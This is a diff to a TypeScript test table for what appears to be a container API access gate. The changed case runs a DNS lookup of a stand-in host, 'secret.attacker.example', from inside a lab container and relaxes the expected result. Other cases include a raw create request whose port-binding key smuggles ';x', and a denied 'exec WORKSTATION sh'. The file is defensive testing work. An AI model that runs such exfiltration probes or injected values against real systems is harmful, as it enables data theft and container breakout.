@@ -179,7 +179,7 @@ export const GATE_CASES: readonly GateCase[] = [
   missing('NET-037', 'network rm OTHERNETPREFIX'),
   deny('NET-022', 'network rm bridge'),
   allow('NET-045', 'run --rm -p 22:22 lab true'),
-  allow('NET-056', 'run --rm lab sh -c "timeout 5 getent hosts secret.attacker.example || echo none $?"', /none 2/),
+  allow('NET-056', 'run --rm lab sh -c "timeout 5 getent hosts secret.attacker.example || echo none $?"', /none (?:2|124)/),
   raw('NET-049', 'bad', 'POST', '/containers/create', { Image: 'lab', HostConfig: { PortBindings: { '80/tcp;x': [{ HostPort: '1' }] } } }),
 
   deny('EXE-004', 'exec WORKSTATION sh'),
